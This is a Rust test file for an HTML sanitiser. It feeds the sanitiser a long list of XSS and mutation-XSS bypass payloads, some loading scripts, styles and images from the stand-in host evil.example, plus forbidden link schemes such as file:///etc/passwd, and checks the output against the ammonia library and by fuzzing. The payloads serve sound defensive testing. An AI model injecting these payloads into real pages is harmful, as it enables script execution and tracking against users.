//! The sanitiser against hostile markup, against ammonia as an oracle, and on real pages where they are present.

use std::collections::{HashMap, HashSet};

use liudi::html::{SanitiseOptions, sanitise};
use proptest::prelude::*;
use scraper::{Html, Node};

/// Payloads of every class met in sanitiser bypasses; each must leave nothing that runs or asks another host.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif srcset='https://evil.example/2x.gif 2x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"https://x.example\" ping=https://evil.example target=_top>x</a>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<svg onload=alert(1)></svg><svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><image href=https://evil.example/x.png onerror=alert(1) /></svg>",
    "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    "<svg><rect fill=\"url(https://evil.example/x.svg#a)\" /><filter><feImage href=https://evil.example/x /></filter></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe><math><mi><script>alert(1)</script></mi></math></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<div style=\"background:u\\72l(https://evil.example/x.png)\">x</div>",
    "<div style=\"background-image:image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<div style=\"width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999\">x</div>",
    "<div style='color:red\"><img src=x onerror=alert(1)>'>x</div>",
    "<div style=\"background:url(liudi-media:00)\">x</div><img src=\"liudi-media:&quot; onerror=alert(1)\">",
    "<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png autoplay onplay=alert(1)><source src=x onerror=alert(1)><track src=https://evil.example/t.vtt></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio><bgsound src=https://evil.example/a.mid>",
    "<table background=https://evil.example/x.png><td background=//evil.example/x>x</table>",
    "<input type=image src=https://evil.example/x.png onfocus=alert(1) autofocus><button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password type=password><select onfocus=alert(1)></select></form>",
    "<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    "<p id=x name=y class=\"liudi-card evil\" contenteditable tabindex=1 accesskey=x is=x slot=x itemprop=x>x</p>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href=https://evil.example?>",
    "<mp-common-profile data-nickname='<img src=x onerror=alert(1)>' data-headimg='https://evil.example/h.png' onclick=alert(1)></mp-common-profile>",
    "<iframe class=video_iframe data-mpvid='wxv_\"><script>alert(1)</script>' data-cover='javascript:alert(1)'></iframe>",
    "<img data-src='https://mmbiz.qpic.cn/mmbiz_png/a\"onerror=alert(1) x=/0' alt='\"><script>alert(1)</script>'>",
    "<pre data-lang='\"><script>'><code><script>alert(1)</script></code><code>2</code></pre>",
];

fn clean(raw: &str) -> String {
    sanitise(raw, &SanitiseOptions { page_url: Some("https://mp.weixin.qq.com/s/abc"), scope: "test" }).html
}

/// Every element of a fragment with its attributes, in document order, and its text.
fn shape(html: &str) -> Vec<String> {
    let tree = Html::parse_fragment(html).tree;
    tree.root()
        .descendants()
        .filter_map(|node| match node.value() {
            Node::Element(element) => {
                let mut attributes: Vec<String> =
                    element.attrs().map(|(name, value)| format!("{name}={value}")).collect();
                attributes.sort();
                Some(format!("<{} {}>", element.name(), attributes.join(" ")))
            }
            // The oracle's serialiser loses a line break at the start of a `pre`.
            Node::Text(text) => Some(text.trim_start_matches('\n').to_owned()).filter(|text| !text.is_empty()),
            Node::Comment(_) => Some("<!-- -->".to_owned()),
            _ => None,
        })
        .collect()
}

/// Nothing in `html` runs, and nothing but a link names another host.
fn assert_harmless(html: &str, raw: &str) {
    let tree = Html::parse_fragment(html).tree;
    for node in tree.root().descendants() {
        assert!(!node.value().is_comment(), "comment in {html}\nfrom {raw}");
        let Some(element) = node.value().as_element() else { continue };
        let name = element.name();
        let banned = [
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "link",
            "meta",
            "base",
            "form",
            "input",
            "button",
            "template",
            "noscript",
            "math",
            "textarea",
            "select",
            "frameset",
            "title",
            "xmp",
            "plaintext",
        ];
        assert!(!banned.contains(&name), "<{name}> in {html}\nfrom {raw}");
        for (attribute, value) in element.attrs() {
            let lower = value.to_ascii_lowercase();
            assert!(
                !attribute.starts_with("on") && attribute != "srcset" && attribute != "id" || value.starts_with("s-"),
                "{attribute} in {html}\nfrom {raw}"
            );
            match attribute {
                "href" if name == "a" => {
                    assert!(
                        ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                        "{value} from {raw}"
                    );
                }
                "src" | "poster" | "href" => assert!(
                    value.starts_with("liudi-media:") || value.starts_with("data:image/") || value.starts_with("#s-"),
                    "{value} from {raw}"
                ),
                "style" => {
                    assert!(
                        !lower.contains("expression") && !lower.contains("fixed") && !lower.contains('\\'),
                        "{value} from {raw}"
                    );
                    for (index, _) in lower.match_indices("url(") {
                        let inner = &lower[index + 4..];
                        assert!(inner.starts_with("liudi-media:") || inner.starts_with("#s-"), "{value} from {raw}");
                    }
                }
                "alt" | "title" | "data-lang" | "data-kind" | "class" => {}
                _ => assert!(!lower.contains("javascript") && !lower.contains("//"), "{attribute}={value} from {raw}"),
            }
        }
    }
}

/// ammonia, told our allow-list by hand. It judges elements, attributes, URLs and the traps of reparsing.
fn oracle() -> ammonia::Builder<'static> {
    let html = [
        "section",
        "span",
        "p",
        "strong",
        "a",
        "abbr",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "caption",
        "cite",
        "code",
        "colgroup",
        "col",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "br",
        "wbr",
        "i",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "small",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
        "img",
        "audio",
        "video",
    ];
    let generic: HashSet<&'static str> = ["style", "class", "dir", "data-kind", "data-lang"].into();
    let attributes: HashMap<&'static str, HashSet<&'static str>> = [
        ("a", ["href"].into()),
        ("img", ["src", "alt", "width", "height"].into()),
        ("audio", ["src", "controls", "preload"].into()),
        ("video", ["src", "poster", "controls", "preload", "width", "height"].into()),
        ("td", ["colspan", "rowspan"].into()),
        ("th", ["colspan", "rowspan"].into()),
        ("col", ["span"].into()),
        ("colgroup", ["span"].into()),
        ("ol", ["start", "reversed"].into()),
        ("li", ["value"].into()),
        ("details", ["open"].into()),
        ("time", ["datetime"].into()),
        ("abbr", ["title"].into()),
        ("dfn", ["title"].into()),
    ]
    .into();
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(html.into())
        .generic_attributes(generic)
        .tag_attributes(attributes)
        .url_schemes(["http", "https", "mailto", "liudi-media", "data"].into())
        .link_rel(None);
    builder
}

/// The part of the oracle that SVG-free bodies can be held against.
fn assert_oracle_agrees(html: &str, raw: &str) {
    if html.contains("<svg") {
        return;
    }
    let judged = oracle().clean(html).to_string();
    assert_eq!(shape(&judged), shape(html), "ammonia would remove something of {html}\nfrom {raw}");
}

#[test]
fn hostile_markup_is_disarmed() {
    for raw in HOSTILE {
        for wrapped in [
            (*raw).to_owned(),
            format!("<p>{raw}</p>"),
            format!("<table><tr><td>{raw}"),
            format!("<svg><foreignObject>{raw}"),
        ] {
            let html = clean(&wrapped);
            assert_harmless(&html, &wrapped);
            assert_oracle_agrees(&html, &wrapped);
            assert_eq!(clean(&html), html, "not a fixed point: {wrapped}");
        }
    }
}

#[test]
fn all_hostile_markup_in_one_page_is_disarmed() {
    let raw = HOSTILE.concat();
    let html = clean(&raw);
    assert_harmless(&html, "all");
    assert_eq!(clean(&html), html);
}

#[test]
fn bodies_that_would_stall_a_parser_keep_their_text() {
    let nested = format!("{}字{}", "<div>".repeat(100_000), "</div>".repeat(100_000));
    let formats: Vec<String> = (0..20_000).map(|n| format!("<b x={n}><p>字")).collect();
    let attributes: Vec<String> = (0..200_000).map(|n| format!("a{n}=1 ")).collect();
    for raw in [nested, formats.concat(), format!("<p {}>字</p>", attributes.concat())] {
        let started = std::time::Instant::now();
        let html = clean(&raw);
        assert!(html.contains('字'));
        // A quadratic parse of these takes minutes; the bound leaves room for slow, shared machines.
        assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
    }
}

/// The bodies of our own pages, as a JavaScript engine gives them.
fn own_bodies() -> Vec<(String, String)> {
    let path = crate::support::fixture("page-data/expected.json");
    let pages: serde_json::Map<String, serde_json::Value> =
        serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    let bodies: Vec<(String, String)> = pages
        .into_iter()
        .filter_map(|(name, data)| Some((name, data["content_noencode"].as_str()?.to_owned())))
        .filter(|(_, body)| !body.is_empty())
        .collect();
    assert!(bodies.len() >= 20, "only {} bodies of our own", bodies.len());
    bodies
}

/// Bodies to be put through everything: those of our own pages, and real ones where the samples are (as kept in the data
/// of each page, and the older pages whole).
fn real_bodies() -> Vec<(String, String)> {
    let mut bodies = own_bodies();
    let Some(folder) = crate::samples("pages").map(|folder| std::fs::read_dir(folder).unwrap()) else { return bodies };
    for entry in folder.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        let mut text = String::new();
        let file = std::fs::File::options().read(true).open(entry.path()).unwrap();
        if !name.ends_with(".gz")
            || std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(file), &mut text).is_err()
        {
            continue;
        }
        if name.ends_with(".json.gz") {
            let data: serde_json::Value = serde_json::from_str(&text).unwrap();
            bodies.push((name, data["content_noencode"].as_str().unwrap_or_default().to_owned()));
        } else if text.len() < 300_000 {
            bodies.push((name, text));
        }
    }
    bodies.sort();
    bodies
}

#[test]
fn real_bodies_are_harmless_fixed_points_that_the_oracle_accepts() {
    for (name, raw) in real_bodies() {
        let html = clean(&raw);
        assert_harmless(&html, &name);
        assert_oracle_agrees(&html, &name);
        assert_eq!(clean(&html), html, "{name} is no fixed point");
        // Nothing a reader sees is lost: the text of both, white space aside.
        let words = |html: &str| -> String {
            let tree = Html::parse_fragment(html).tree;
            let mut text = String::new();
            for node in tree.root().descendants() {
                let hidden = node.ancestors().any(|up| {
                    up.value().as_element().is_some_and(|element| {
                        matches!(element.name(), "script" | "style" | "noscript" | "title" | "select" | "textarea")
                            || element.attr("class").is_some_and(|c| {
                                ["liudi-card", "liudi-cite", "line-index"].iter().any(|our| c.contains(our))
                            })
                    })
                });
                if let (Node::Text(part), false) = (node.value(), hidden) {
                    text.extend(part.chars().filter(|c| !c.is_whitespace()));
                }
            }
            text
        };
        if name.ends_with(".json.gz") {
            assert_eq!(words(&html), words(&raw), "{name} lost text");
        }
    }
}

/// Markup out of the pieces that trouble parsers.
fn markup() -> impl Strategy<Value = String> {
    let names = prop::sample::select(vec![
        "p",
        "section",
        "span",
        "b",
        "a",
        "i",
        "div",
        "li",
        "ul",
        "table",
        "tr",
        "td",
        "h2",
        "h3",
        "pre",
        "code",
        "svg",
        "g",
        "foreignObject",
        "button",
        "form",
        "font",
        "nobr",
        "ruby",
        "rt",
        "rp",
        "dd",
        "dl",
        "center",
        "marquee",
        "object",
        "select",
        "option",
        "math",
        "mi",
        "template",
        "textarea",
        "title",
        "style",
        "script",
        "mp-common-x",
        "o:p",
        "caption",
        "colgroup",
        "details",
        "summary",
        "iframe",
        "video",
        "img",
        "br",
        "hr",
        "xmp",
        "noscript",
        "legend",
        "rtc",
        "body",
    ]);
    let attributes = prop::sample::select(vec![
        "",
        " style=\"color:red\"",
        " href=\"https://example.com/\"",
        " onclick=x",
        " class=\"code-snippet__fix\"",
        " data-src=\"https://mmbiz.qpic.cn/mmbiz_png/a/0\"",
        " style='background:url(\"https://evil.example\")'",
        " align=center",
        " color=red size=5",
    ]);
    let piece = prop_oneof![
        4 => (names.clone(), attributes).prop_map(|(name, attribute)| format!("<{name}{attribute}>")),
        4 => names.prop_map(|name| format!("</{name}>")),
        2 => prop::sample::select(vec!["字", " ", "\n", "&lt;b&gt;", "&amp;lt;", "<!--", "-->", "\"", "<", "&#0;"]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// In any spelling, in any place where a link may be.
#[test]
fn links_go_to_the_web_or_to_a_mailbox_and_nowhere_else() {
    let no = [
        "ftp://example.com/a",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "blob:https://a/b",
        "weixin://dl/chat",
        "tel:110",
        "sms:110",
        "intent://x",
        "about:blank",
        "view-source:https://a/",
        "ws://a/",
        "filesystem:https://a/b",
    ];
    for href in no {
        for raw in [
            format!("<a href=\"{href}\">字</a>"),
            format!("<svg><a href=\"{href}\"><text>字</text></a></svg>"),
            format!("<svg><a xlink:href=\"{href}\"><text>字</text></a></svg>"),
            format!("<blockquote cite=\"{href}\">字</blockquote>"),
            format!("<form action=\"{href}\">字</form>"),
        ] {
            let html = clean(&raw);
            assert!(html.contains('字') && !html.contains("href") && !html.contains(':'), "{raw}: {html}");
        }
    }
    for href in ["https://example.com/a", "http://example.com/a", "mailto:a@example.com"] {
        assert!(clean(&format!("<a href=\"{href}\">字</a>")).contains(&format!("href=\"{href}\"")), "{href}");
    }
}

/// What stands inside a table and not in a cell the parser puts before it, where the same element may be open: read again,
/// the written form would close the outer one.
#[test]
fn elements_put_before_a_table_are_written_as_they_are_read_again() {
    let names = [
        "dd",
        "dt",
        "li",
        "p",
        "h1",
        "h3",
        "a",
        "div",
        "section",
        "blockquote",
        "ul",
        "ol",
        "dl",
        "pre",
        "ruby",
        "rt",
        "b",
        "span",
        "figure",
        "caption",
        "details",
    ];
    for outer in names {
        for inner in names {
            for middle in ["", "<div>", "<p>", "<span>", "<b>"] {
                for raw in [
                    format!("<{outer}>{middle}<table><{inner}>字<tr><td>格"),
                    format!("<table><{outer}>{middle}<form><{inner}>字<tr><td>格"),
                ] {
                    let html = clean(&raw);
                    assert_eq!(clean(&html), html, "{raw}");
                }
            }
        }
    }
}

#[test]
fn a_block_of_code_is_one_when_what_hid_it_is_gone() {
    for raw in [
        "<p><pre><li><iframe>",
        "<pre><math><li><p>",
        "<pre><x-y><li>a</li><li>b</li></x-y></pre>",
        "<pre><tt>a</tt><tt>b</tt></pre>",
        "<pre><font><li>a</font></pre>",
        "<listing><li>a</li></listing>",
        "<pre><tt><div>a</div><div>b</div></tt></pre>",
        "<pre><blink><p>a</p><p>b</p></blink></pre>",
        "<pre><button><code>a</code><code>b</code></button></pre>",
        "<pre><li>a<img></li><li>b</li></pre>",
        "<pre><li><a href=\"https://a.example\">a</a></li></pre>",
    ] {
        let html = clean(raw);
        assert_eq!(clean(&html), html, "{raw}");
    }
    assert!(clean("<pre><li><a href=\"https://a.example\">a</a></li></pre>").contains("href"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_markup_becomes_a_harmless_fixed_point(raw in markup()) {
        let html = clean(&raw);
        assert_harmless(&html, &raw);
        assert_oracle_agrees(&html, &raw);
        prop_assert_eq!(clean(&html), html);
    }

    #[test]
    fn any_text_is_survived(raw in "\\PC{0,200}") {
        let html = clean(&raw);
        assert_harmless(&html, &raw);
        prop_assert_eq!(clean(&html), html);
    }
}
